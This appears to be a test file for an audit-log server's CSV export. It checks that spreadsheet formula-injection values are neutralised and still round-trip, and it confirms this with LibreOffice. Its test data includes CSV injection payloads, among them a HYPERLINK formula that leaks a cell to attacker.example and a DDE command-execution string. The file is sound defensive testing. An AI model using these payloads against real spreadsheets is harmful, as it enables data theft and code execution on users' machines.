// CSV exports through the real server: hostile cells are neutralised for
// spreadsheets (read back as a spreadsheet would: parsed, and converted by
// LibreOffice headless when it is installed), every other value round-trips.
import { spawnSync } from 'node:child_process';
import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { StoredEvent } from '@logproof/core';
import { parse } from 'csv-parse/sync';
import { stringify } from 'csv-stringify/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import {
  CSV_COLUMNS,
  csvCells,
  csvHeader,
  csvLine,
  describeCsvColumns,
  neutraliseCsvCell,
  restoreCsvCell,
} from '../src/exports/csv.js';
import { ChunkWriter } from '../src/exports/chunk-writer.js';
import { CsvRowWriter, csvRowFast } from '../src/exports/csv-rows.js';
import { storedEvent, type EventParts } from '../src/exports/event-json.js';
import {
  exportEvents,
  hasCommand,
  openExportApp,
  seedOrg,
  type ExportApp,
} from './helpers/export-app.js';
import { expectProblem, postJson } from './helpers/http-app.js';

/** Appends events to an existing org through the batch API. */
async function seedOrgEvents(
  t: ExportApp,
  org: string,
  events: Record<string, unknown>[],
): Promise<StoredEvent[]> {
  const res = await postJson(t.app, t.apiKey, '/v1/events/batch', {
    events: events.map((e) => ({ org, ...e })),
  });
  expect(res.statusCode, res.body).toBe(201);
  return res.json<{ events: StoredEvent[] }>().events;
}

/** Values that a spreadsheet would run, split or show as something else. */
const HOSTILE = [
  '=1+1',
  '=HYPERLINK("http://attacker.example/?x="&A1,"click me")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '@SUM(1,1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\u3000+1',
  '\uff1d1+1', // full-width =
  '\uff0b1', // full-width +
  '\uff0d1', // full-width -
  '\uff20SUM(1)', // full-width @
  '\ufe66SUM(1)', // small =
  "'=1+1", // looks already escaped: must come back as sent
  "''+1",
];

/** NUL never reaches the log (the event schema refuses it), but the CSV writer would neutralise it too. */
const NEVER_STORED = ['\u0000=1+1'];

/** Values that are only awkward for a CSV writer: commas, quotes, line breaks, scripts. */
const AWKWARD = [
  'Ada, Countess of Lovelace',
  'She said "hi"',
  'two\r\nlines',
  'Σωκράτης',
  'Пётр Чайковский',
  '李小龍',
  '김민준',
  'Zoë 😀🎉',
  "O'Brien",
  '1e5',
  '0012',
];

/**
 * What a spreadsheet evaluates or splits on (OWASP CSV Injection), written
 * out here independently of the implementation: the first character after
 * spaces is = + - @ tab CR LF NUL or a full-width or small form of = + - @.
 */
/* eslint-disable no-control-regex -- tab, CR, LF and NUL are what is looked for */
const FORMULA_START =
  /^[ \u00a0\u3000\u2000-\u200b\ufeff]*[=+\-@\t\r\n\u0000\uff1d\uff0b\uff0d\uff20\ufe66\ufe62\ufe63\ufe6b]/;
/* eslint-enable no-control-regex */

function cellsOf(text: string): string[][] {
  // A spreadsheet's reading: RFC 4180 with the UTF-8 BOM, where a CR or LF
  // outside quotes ends the row whatever the file's own line ends are.
  return parse(text, { bom: true, record_delimiter: ['\r\n', '\n', '\r'] }) as string[][];
}

describe('neutraliseCsvCell', () => {
  it('leaves every ordinary value as it is', () => {
    for (const value of [...AWKWARD, '', 'user.login', 'a=b', "'", "'hello"]) {
      expect(neutraliseCsvCell(value)).toBe(value);
    }
  });

  it('prefixes an apostrophe to every value a spreadsheet could run, and restoreCsvCell undoes it', () => {
    for (const value of [...HOSTILE, ...NEVER_STORED]) {
      const cell = neutraliseCsvCell(value);
      expect(cell, JSON.stringify(value)).toBe(`'${value}`);
      expect(FORMULA_START.test(cell)).toBe(false);
      expect(restoreCsvCell(cell)).toBe(value);
    }
    for (const value of [...AWKWARD, "'", "'hello"])
      expect(restoreCsvCell(neutraliseCsvCell(value))).toBe(value);
  });
});

describe('csvLine', () => {
  it('writes what csv-stringify writes (CRLF, quoting, escape_formulas), byte for byte', () => {
    const values = [...HOSTILE, ...NEVER_STORED, ...AWKWARD, '', 'plain', 'a"b', 'x\ny', 'z\r'];
    const rows = values.map((v, i) => [
      neutraliseCsvCell(v),
      String(i),
      '',
      neutraliseCsvCell(`${v}${v}`),
    ]);
    const expected = stringify(rows, {
      record_delimiter: 'windows',
      quote_record_delimiter: true,
      escape_formulas: true,
    });
    expect(rows.map(csvLine).join('')).toBe(expected);
  });
});

/** The generic path: the event parsed, every column read from the value. */
function genericLine(parts: EventParts): string {
  return csvLine(csvCells(storedEvent(parts)));
}

/** An entry's canonical JSON as the server writes it (RFC 8785: sorted members, no white space). */
function canonicalOf(entry: Record<string, unknown>): string {
  const sort = (v: unknown): unknown =>
    Array.isArray(v)
      ? v.map(sort)
      : v !== null && typeof v === 'object'
        ? Object.fromEntries(
            Object.keys(v)
              .sort()
              .map((k) => [k, sort((v as Record<string, unknown>)[k])]),
          )
        : v;
  return JSON.stringify(sort(entry));
}

const ENTRY = {
  v: 1,
  id: 'evt_01',
  org: 'org_01',
  org_external_id: 'acme',
  chain_index: 7,
  action: 'user.login',
  actor: { id: 'user_1', type: 'user', name: 'Ada', email: 'ada@example.com' },
  targets: [{ id: 'doc_1', type: 'document', name: 'Q3, final', metadata: { pages: 3 } }],
  metadata: { plan: 'pro', seats: 12, sso: true, note: 'a,b' },
  context: { ip: '203.0.113.7', user_agent: 'Mozilla/5.0 (X11; Linux x86_64)' },
  occurred_at: '2026-02-10T14:32:18.123Z',
  created_at: '2026-02-10T14:32:18.456Z',
  entry_type: 'business',
  outcome: 'success',
};

function partsOf(canonical: string, extra: Partial<EventParts> = {}): EventParts {
  return {
    canonical,
    leafHashHex: '0a'.repeat(32),
    hashHex: 'ff'.repeat(32),
    previousHashHex: '00'.repeat(32),
    signatureBase64: '+' + 'A'.repeat(86) + '=',
    keyId: '0badc0de',
    ...extra,
  };
}

describe('csvRowFast', () => {
  it('writes what the generic path writes, byte for byte, for entries as the server stores them', () => {
    const variants: Record<string, unknown>[] = [
      ENTRY,
      { ...ENTRY, description: 'Ada, Countess of Lovelace', targets: [], metadata: {} },
      { ...ENTRY, actor: { id: 'svc', type: 'service', metadata: { region: 'eu', n: -3 } } },
      { ...ENTRY, actor: { id: 'svc', type: 'system', metadata: {} } },
      { ...ENTRY, context: { request_id: 'req_1' } },
      { ...ENTRY, context: {} },
      ...[...HOSTILE, ...AWKWARD].map((value) => ({
        ...ENTRY,
        description: value,
        actor: { id: value || 'x', type: 'user', name: value },
        targets: [{ id: 'doc', type: 'document', name: value }],
        metadata: { note: value, n: -1 },
        context: { user_agent: value, request_id: value },
      })),
      // Integer-like names: JavaScript lists them first, RFC 8785 sorts them as text.
      { ...ENTRY, metadata: { '10': 'x', '2': 'y', a: 1 } },
      { ...ENTRY, chain_index: 0, metadata: { big: 9007199254740991, neg: -9007199254740991 } },
    ];
    for (const entry of variants) {
      const parts = partsOf(canonicalOf(entry));
      const generic = genericLine(parts);
      expect(csvRowFast(parts) ?? generic, parts.canonical).toBe(generic);
    }
    // The ordinary entry does take the fast path.
    expect(csvRowFast(partsOf(canonicalOf(ENTRY)))).toBe(genericLine(partsOf(canonicalOf(ENTRY))));
  });

  it('takes the fast path for hostile and awkward values that JSON writes without an escape', () => {
    const values = [...HOSTILE, ...AWKWARD, 'a,b', ' ', "'", 'x'.repeat(500)].filter(
      (v) => !JSON.stringify(v).includes('\\'),
    );
    expect(values.length).toBeGreaterThan(15);
    for (const value of values) {
      const entry = {
        ...ENTRY,
        description: value,
        actor: { id: value || 'x', type: 'user', name: value, email: value },
        targets: [{ id: value, type: 'document', name: value }],
        metadata: { note: value, n: -1 },
        context: { ip: value, user_agent: value, request_id: value },
      };
      const parts = partsOf(canonicalOf(entry));
      expect(csvRowFast(parts), value).toBe(genericLine(parts));
    }
  });

  it('matches the generic path on metadata names past ASCII and on rows larger than a buffer', () => {
    for (const entry of [
      { ...ENTRY, metadata: { z: 1, é: 2, 日本: 'x' } },
      { ...ENTRY, metadata: { '\uffff': 1, '😀': 2 } },
      { ...ENTRY, metadata: { a: 1, ab: 2, b: 3 } },
      { ...ENTRY, description: 'a,"b"'.repeat(20_000) },
      { ...ENTRY, metadata: { note: '"'.repeat(30_000) } },
    ]) {
      const parts = partsOf(canonicalOf(entry));
      expect(csvRowFast(parts) ?? genericLine(parts)).toBe(genericLine(parts));
      const out = new ChunkWriter();
      new CsvRowWriter().writeRows(out, [parts]);
      expect(Buffer.concat(out.takeAll()).toString('utf8')).toBe(genericLine(parts));
    }
  });

  it('writes pages across buffer boundaries as the generic path does', () => {
    const out = new ChunkWriter();
    const writer = new CsvRowWriter();
    const rows = Array.from({ length: 400 }, (_, i) =>
      partsOf(canonicalOf({ ...ENTRY, chain_index: i, description: 'é,'.repeat(i) })),
    );
    for (let i = 0; i < rows.length; i += 64) writer.writeRows(out, rows.slice(i, i + 64));
    const chunks = out.takeAll();
    expect(chunks.length).toBeGreaterThan(2);
    expect(Buffer.concat(chunks).toString('utf8')).toBe(rows.map(genericLine).join(''));
  });

  it('neutralises the derived members as the generic path does', () => {
    for (const extra of [
      { keyId: '=1+1' },
      { keyId: 'a,"b"' },
      { signatureBase64: '-AAAA' },
      { signatureBase64: 'AAAA' },
    ]) {
      const parts = partsOf(canonicalOf(ENTRY), extra);
      expect(csvRowFast(parts)).toBe(genericLine(parts));
    }
  });

  it('gives up on text not in the form the server writes, so that the generic path decides', () => {
    const canonical = canonicalOf(ENTRY);
    const odd = [
      canonical.replace('"Ada"', '"A\\u0064a"'), // an escape
      canonical.replace('"Ada"', '"A\\"da"'),
      canonical.replace('{"action"', '{ "action"'), // white space
      canonical.replace('"seats":12', '"seats":12.0'), // a number not as JavaScript writes it
      canonical.replace('"seats":12', '"seats":-0'),
      canonical.replace('"seats":12', '"seats":1e1'),
      canonical.replace('"seats":12', '"seats":{"a":1}'), // nested metadata
      canonical.replace('"plan":"pro"', '"plan":"pro","plan":"free"'), // a duplicate
      canonical.replace('"note":"a,b","plan"', '"plan":"x","note":"a,b","plan"'), // not sorted
      canonical.replace('"metadata":{', '"metadata":{"10":1,"2":2,'), // integer-like names
      canonical.replace('"outcome":"success"', '"outcome":"success","zzz":1'), // unknown member
      canonical.replace('"actor":{', '"actor":[{').replace('"type":"user"}', '"type":"user"}]'),
      canonical.replace('"chain_index":7', '"chain_index":"7"'),
      canonical.replace('"Ada"', '"\ud800"'), // a lone surrogate
      canonical + ' ',
    ];
    for (const text of odd) {
      expect(text, 'the replacement must apply').not.toBe(canonical);
      const parts = partsOf(text);
      expect(csvRowFast(parts), text).toBeNull();
      // Whatever the generic path makes of it (a row, or an error) is what the export gives.
      let generic: string | Error;
      try {
        generic = genericLine(parts);
      } catch (error) {
        generic = error as Error;
      }
      expect(generic).toBeDefined();
    }
  });

  it('gives up on a raw control character, on which the generic path fails', () => {
    const parts = partsOf(canonicalOf(ENTRY).replace('"Ada"', '"A\nda"'));
    expect(csvRowFast(parts)).toBeNull();
    expect(() => genericLine(parts)).toThrow(SyntaxError);
  });
});

describe('GET /v1/events/export?format=csv', () => {
  let t: ExportApp;
  let events: StoredEvent[];
  let csv: string;
  let raw: Buffer;

  beforeAll(async () => {
    t = await openExportApp('sqlite');
    const values = [...HOSTILE, ...AWKWARD];
    const seeded = await seedOrg(
      t,
      'acme',
      values.map((value, i) => ({
        action: 'user.login',
        actor: {
          id: value === '' ? 'x' : value,
          name: value,
          type: i % 3 === 0 ? 'service' : 'user',
        },
        targets: [{ id: `doc_${i}`, type: 'document', name: value }],
        description: value,
        metadata: { note: value, n: -i },
        context: { user_agent: value, request_id: value },
      })),
    );
    events = seeded.events;
    const res = await exportEvents(t, { format: 'csv', org: 'acme' });
    expect(res.statusCode, res.body).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8; header=present');
    expect(String(res.headers['content-disposition'])).toMatch(
      /^attachment; filename="logproof-acme-\d{8}T\d{6}Z\.csv"$/,
    );
    raw = res.rawPayload;
    csv = raw.toString('utf8');
  });
  afterAll(async () => {
    await t?.close();
  });

  it('is UTF-8 with a BOM and CRLF line ends, one row per event under the documented header', () => {
    expect([...raw.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(csv.slice(1, csv.indexOf('\r\n'))).toBe(CSV_COLUMNS.map((c) => c.name).join(','));
    expect(csv.endsWith('\r\n')).toBe(true);
    const rows = cellsOf(csv);
    expect(rows[0]).toEqual(CSV_COLUMNS.map((c) => c.name));
    expect(rows).toHaveLength(events.length + 1);
  });

  it('writes each row as the generic path writes it, also after a key rotation', async () => {
    const values = [...HOSTILE, ...AWKWARD];
    const event = (value: string, i: number) => ({
      action: 'document.shared',
      actor: {
        id: `u_${i}`,
        name: value,
        ...(i % 2 ? { email: `u${i}@example.com` } : {}),
        ...(i % 3 ? { metadata: { '10': 'ten', '2': value, z: i } } : {}),
      },
      targets: [{ id: `doc_${i}`, type: 'document', metadata: { pages: i, draft: i % 2 === 0 } }],
      metadata: { a: `x,${value}`, b: -i, c: true },
      context: { ip: '2001:db8::1', request_id: value },
      ...(i % 4 ? { description: value } : {}),
    });
    await seedOrg(t, 'globex', values.map(event));
    const rotated = await postJson(t.app, t.apiKey, '/v1/orgs/globex/keys/rotate', {});
    expect(rotated.statusCode, rotated.body).toBe(201);
    await seedOrgEvents(t, 'globex', [...values].reverse().map(event));
    // The generic path on each event as the API returns it (parsed, every column read from the value).
    const nd = await exportEvents(t, { format: 'ndjson', org: 'globex' });
    const listed = nd.body
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line) as StoredEvent);
    expect(listed).toHaveLength(2 * values.length);
    expect(new Set(listed.map((e) => e.key_id)).size).toBe(2);
    const res = await exportEvents(t, { format: 'csv', org: 'globex' });
    expect(res.body).toBe(csvHeader() + listed.map((e) => csvLine(csvCells(e))).join(''));
  });

  it('has no cell a spreadsheet would evaluate', () => {
    for (const row of cellsOf(csv)) {
      for (const cell of row) expect(FORMULA_START.test(cell), JSON.stringify(cell)).toBe(false);
    }
  });

  it('gives every value back, hostile ones once their one leading apostrophe is dropped', () => {
    const rows = cellsOf(csv).slice(1);
    const column = (name: string) => CSV_COLUMNS.findIndex((c) => c.name === name);
    rows.forEach((row, i) => {
      const e = events[i]!;
      const value = (name: string) => restoreCsvCell(row[column(name)]!);
      expect(value('id')).toBe(e.id);
      expect(value('chain_index')).toBe(String(e.chain_index));
      expect(value('actor_id')).toBe(e.actor.id);
      expect(value('actor_name')).toBe(e.actor.name);
      expect(value('actor_type')).toBe(e.actor.type);
      expect(value('description')).toBe(e.description);
      expect(value('context_user_agent')).toBe(e.context.user_agent);
      expect(value('context_request_id')).toBe(e.context.request_id);
      expect(JSON.parse(value('targets'))).toEqual(e.targets);
      expect(JSON.parse(value('metadata'))).toEqual(e.metadata);
      expect(value('hash')).toBe(e.hash);
      expect(value('signature')).toBe(e.signature);
      expect(value('key_id')).toBe(e.key_id);
      // Cells that were not hostile are exactly the value, with no apostrophe.
      if (!HOSTILE.includes(e.actor.name!)) expect(row[column('actor_name')]).toBe(e.actor.name);
      else expect(row[column('actor_name')]).toBe(`'${e.actor.name!}`);
    });
  });

  it('documents the column order in the OpenAPI description', async () => {
    const doc = (await t.app.inject({ method: 'GET', url: '/openapi.json' })).json<{
      paths: Record<
        string,
        {
          get?: {
            parameters: Array<{
              name: string;
              description?: string;
              schema: { description?: string };
            }>;
          };
        }
      >;
    }>();
    const format = doc.paths['/v1/events/export']!.get!.parameters.find(
      (p) => p.name === 'format',
    )!;
    const text = format.description ?? format.schema.description ?? '';
    expect(text).toContain(describeCsvColumns());
    expect(describeCsvColumns()).toMatch(/^1\. `id` .*; 25\. `signature` /);
  });

  it('exports an empty selection as the header alone', async () => {
    const res = await exportEvents(t, { format: 'csv', org: 'acme', action: 'never.happened' });
    expect(res.statusCode).toBe(200);
    expect(cellsOf(res.body)).toEqual([CSV_COLUMNS.map((c) => c.name)]);
  });

  it('refuses what GET /v1/events refuses, naming the parameter', async () => {
    expectProblem(
      await exportEvents(t, { format: 'csv', q: 'action:(' }),
      400,
      'validation_failed',
      ['/q'],
    );
    expectProblem(await exportEvents(t, { format: 'xlsx' }), 400, 'validation_failed', ['/format']);
    expectProblem(await exportEvents(t, { format: 'csv', limit: 5 }), 400, 'validation_failed', [
      '/limit',
    ]);
    expectProblem(await exportEvents(t, { format: 'csv', org: 'nope' }), 404, 'not_found', [
      '/org',
    ]);
    expectProblem(await exportEvents(t, { org: 'acme' }), 400, 'validation_failed');
  });

  it('needs the admin scope (API.md: exports are admin)', async () => {
    for (const scopes of [['events:write'], ['events:read']]) {
      const key = await postJson(t.app, t.apiKey, '/v1/api-keys', { name: 'not admin', scopes });
      expect(key.statusCode).toBe(201);
      expectProblem(
        await exportEvents(t, { format: 'csv' }, key.json<{ secret: string }>().secret),
        403,
        'forbidden',
      );
    }
    const unauthenticated = await t.app.inject({
      method: 'GET',
      url: '/v1/events/export?format=csv',
    });
    expectProblem(unauthenticated, 401, 'unauthorized');
  });

  // CI installs LibreOffice (.ci/apt-packages.txt): there a missing soffice fails, never skips.
  const soffice = hasCommand('soffice') || Boolean(process.env.CI);
  it.skipIf(!soffice)(
    'opened by LibreOffice (formulas evaluated on import), runs nothing',
    async () => {
      const dir = await mkdtemp(join(tmpdir(), 'logproof-csv-lo-'));
      try {
        await writeFile(join(dir, 'export.csv'), raw);
        // The control proves the conversion would show a formula: the same
        // values without neutralisation do become formulas.
        const control = ['\ufeffa,b', '=1+1,=SUM(1;2)', ''].join('\r\n');
        await writeFile(join(dir, 'control.csv'), control);
        const result = spawnSync(
          'soffice',
          [
            `-env:UserInstallation=file://${join(dir, 'profile')}`,
            '--headless',
            '--infilter=CSV:44,34,76,1',
            '--convert-to',
            'fods',
            '--outdir',
            dir,
            join(dir, 'control.csv'),
            join(dir, 'export.csv'),
          ],
          { encoding: 'utf8', timeout: 120_000 },
        );
        expect(result.status, result.stderr).toBe(0);
        const controlXml = await readFile(join(dir, 'control.fods'), 'utf8');
        expect(controlXml).toMatch(/table:formula="of:=1\+1"/);
        const xml = await readFile(join(dir, 'export.fods'), 'utf8');
        expect(xml).not.toMatch(/table:formula=/);
        // Every hostile name is there as text, behind its apostrophe.
        expect(xml).toContain('&apos;=1+1');
        expect(xml).toContain('&apos;@SUM(1,1)');
      } finally {
        await rm(dir, { recursive: true, force: true });
      }
    },
    180_000,
  );
});
